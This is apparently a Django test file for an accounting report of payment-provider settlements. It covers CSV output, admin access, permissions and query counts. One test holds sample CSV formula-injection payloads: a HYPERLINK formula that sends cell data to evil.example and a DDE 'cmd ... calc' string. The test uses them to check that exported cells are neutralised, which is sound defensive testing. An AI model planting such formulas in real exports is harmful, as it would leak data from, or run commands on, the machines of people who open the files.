"""What the accountant reads: the month's report (from the command and from admin), the
settlement as the bank statement shows it in admin, and the queries a page of lines costs."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test.utils import CaptureQueriesContext

from accounts.models import User
from invoices.models import TaxDocument
from settlements.models import Settlement, SettlementLine
from settlements.services import settlements_pull_day, settlements_reconcile
from tests.factories import PaymentFactory
from tests.payments.gateways.razorpay import fakes as razorpay

from .conftest import payment_line

pytestmark = pytest.mark.django_db


@pytest.fixture
def two_months(razorpay_api, stripe_api, day_of_money):
    """November: a settlement of three payments, a refund, a lost dispute and an adjustment;
    December: one of a fourth payment."""
    money = day_of_money
    refund = money["refund"]
    november = [payment_line(money[key]) for key in ("kept", "refunded", "disputed")] + [
        razorpay.recon_line(refund.provider_refund_id, "refund", int(refund.amount * 100)),
        razorpay.recon_line("disp_LOST1", "dispute",
                            int(money["disputed"].captured_amount * 100)),
        razorpay.recon_line("adj_FIX", "adjustment", 250, credit=250),
    ]  # fmt: skip
    razorpay.settle_at_razorpay(november, day="2026-11-30")
    razorpay.settle_at_razorpay([payment_line(PaymentFactory(state="paid"))], day="2026-12-01")
    settlements_reconcile(days=[date(2026, 11, 30), date(2026, 12, 1)])
    return money


def report(month: str) -> list[list[str]]:
    out = io.StringIO()
    call_command("settlement_report", "--month", month, stdout=out)
    return list(csv.reader(io.StringIO(out.getvalue())))


def test_a_months_report_has_a_row_per_line_and_totals_equal_to_their_sum(two_months):
    rows = report("2026-11")
    header, body = rows[0], rows[1:]
    assert header == ["date", "settlement", "utr", "type", "provider_id", "ours",
                      "tax_documents", "gross", "fee", "tax", "net"]  # fmt: skip
    lines = [row for row in body if row[0]]
    totals = {row[3]: row for row in body if not row[0]}
    settlement = Settlement.objects.get(settled_at__month=11)
    # What reached the bank under the UTR, after the settlement's lines.
    subtotal = totals["subtotal: paid to the bank"]
    assert subtotal[1:3] == [settlement.provider_settlement_id, settlement.utr]
    assert Decimal(subtotal[10]) == settlement.amount
    assert body.index(subtotal) == len(lines)
    assert len(lines) == 6 and {row[0] for row in lines} == {"2026-11-30"}
    assert {row[1] for row in lines} == {settlement.provider_settlement_id}
    assert {row[2] for row in lines} == {settlement.utr}
    kept = next(row for row in lines if row[4] == two_months["kept"].provider_payment_id)
    assert kept[5] == f"order {two_months['kept'].order.order_number}"
    assert kept[6] == two_months["kept"].order.invoice.number
    refunded = next(row for row in lines if row[3] == "refund")
    credit_note = TaxDocument.objects.get(source=f"refund:{two_months['refund'].pk}")
    assert refunded[6].split("; ") == [
        two_months["refunded"].order.invoice.number,
        credit_note.number,
    ]
    for column, index in (("gross", 7), ("fee", 8), ("tax", 9), ("net", 10)):
        summed = sum(Decimal(row[index]) for row in lines)
        assert Decimal(totals["total"][index]) == summed, column
    assert Decimal(totals["total"][10]) == settlement.amount
    assert Decimal(totals["total"][8]) == settlement.fees
    assert Decimal(totals["input tax credit (GST on fees)"][9]) == settlement.tax
    assert Decimal(totals["total refund"][7]) == -two_months["refund"].amount
    assert Decimal(totals["total adjustment"][10]) == Decimal("2.50")
    december = report("2026-12")
    assert len([row for row in december if row[0]]) == 2  # its header is not a line


def test_the_report_downloads_from_admin_as_the_command_writes_it(two_months, staff):
    answer = staff.get("/admin/settlements/settlement/report/?month=2026-11")
    assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv")
    assert 'filename="settlements-2026-11.csv"' in answer["Content-Disposition"]
    out = io.StringIO()
    call_command("settlement_report", "--month", "2026-11", stdout=out)
    assert answer.content.decode() == out.getvalue()
    refused = staff.get("/admin/settlements/settlement/report/?month=November", follow=True)
    assert refused.status_code == 200 and "The month is YYYY-MM" in refused.content.decode()
    with pytest.raises(CommandError, match="YYYY-MM"):
        call_command("settlement_report", "--month", "2026-13")


def test_admin_shows_the_settlement_as_the_bank_statement_does_with_lines_linked(two_months, staff):
    settlement = Settlement.objects.get(settled_at__month=11)
    listing = staff.get("/admin/settlements/settlement/").content.decode()
    assert settlement.utr in listing and "2026-11-30" in listing and "GST on fees" in listing
    page = staff.get(f"/admin/settlements/settlement/{settlement.pk}/change/").content.decode()
    order = two_months["kept"].order
    assert f"/admin/orders/order/{order.pk}/change/" in page
    assert f"order {order.order_number}" in page
    assert "of which GST on fees (input tax credit)" in page
    assert "do not add up" not in page
    flagged = staff.get("/admin/settlements/settlementline/?flag=unmatched").content.decode()
    assert "0 settlement lines" in flagged or "0 results" in flagged


def test_only_staff_who_may_change_settlements_pull_them(two_months, client, razorpay_api):
    clerk = User.objects.create_user("clerk@example.com", "clerk-pass-123", is_staff=True)
    clerk.user_permissions.add(Permission.objects.get(codename="view_settlement"))
    client.force_login(clerk)
    assert client.get("/admin/settlements/settlement/report/?month=2026-11").status_code == 200
    assert client.post("/admin/settlements/settlement/pull/").status_code == 403
    clerk.user_permissions.add(Permission.objects.get(codename="change_settlement"))
    razorpay_api.clear()
    page = client.post("/admin/settlements/settlement/pull/", follow=True).content.decode()
    assert "lines of" in page and razorpay_api


def test_ten_thousand_lines_reconcile_in_the_same_queries_per_page(razorpay_api):
    def queries_for(lines: int, day: date) -> int:
        razorpay.settle_at_razorpay(
            [razorpay.recon_line(f"pay_{day:%d}{n:06d}", "payment", 1000) for n in range(lines)],
            day=f"{day:%Y-%m-%d}",
        )
        with CaptureQueriesContext(connection) as captured:
            assert settlements_pull_day(provider="razorpay", day=day)[0] == lines
        return len(captured)

    one_page = queries_for(1_000, date(2026, 10, 1))
    ten_pages = queries_for(10_000, date(2026, 10, 2))
    # Each further page costs the same handful of queries, none per line.
    per_page = (ten_pages - one_page) / 9
    assert per_page == int(per_page) and per_page <= 8
    assert SettlementLine.objects.filter(flag="unmatched").count() == 11_000


def test_text_a_provider_sent_is_never_a_live_formula_and_amounts_stay_numbers(razorpay_api):
    """A UTR and an adjustment id that Razorpay (or anyone who can make one) wrote as
    formulas: the CSV cells begin with an apostrophe; a debit stays a plain number."""
    paid = PaymentFactory(state="paid")
    formula_id = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    lines = [
        payment_line(paid),
        razorpay.recon_line(formula_id, "adjustment", 100, debit=100),
    ]
    entity = razorpay.settle_at_razorpay(lines, day="2026-10-15")
    entity["utr"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    for line in lines:
        line["settlement_utr"] = entity["utr"]
    settlements_reconcile(days=[date(2026, 10, 15)])
    rows = [row for row in report("2026-10")[1:] if row[0]]
    assert {row[2] for row in rows} == {"'" + entity["utr"]}
    (adjustment,) = [row for row in rows if row[3] == "adjustment"]
    assert adjustment[4] == "'" + formula_id
    assert adjustment[7:] == ["-1.00", "0.00", "0.00", "-1.00"]  # numbers, as written


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_and_numbers_are_not(start):
    from config.spreadsheets import safe_cell

    assert safe_cell(f"{start}cmd") == f"'{start}cmd"
    assert safe_cell("-12.50") == "-12.50" and safe_cell(Decimal("-3.00")) == Decimal("-3.00")
    assert safe_cell("UTR123") == "UTR123"


def test_phonepe_payments_which_no_settlement_reports_are_listed_in_a_section_of_their_own(
    razorpay_api,
):
    paid = PaymentFactory(state="paid", provider="phonepe")
    month = f"{paid.created_at:%Y-%m}"
    rows = report(month)
    heading = rows.index(["", "", "", "payments not reported by the provider", *[""] * 7])
    (listed,) = rows[heading + 1 :]
    assert listed[1] == "not reported by the provider" and listed[3] == "payment"
    assert listed[4] == paid.provider_payment_id and Decimal(listed[7]) == paid.captured_amount
    assert listed[5] == f"order {paid.order.order_number}"
    assert listed[6] == paid.order.invoice.number
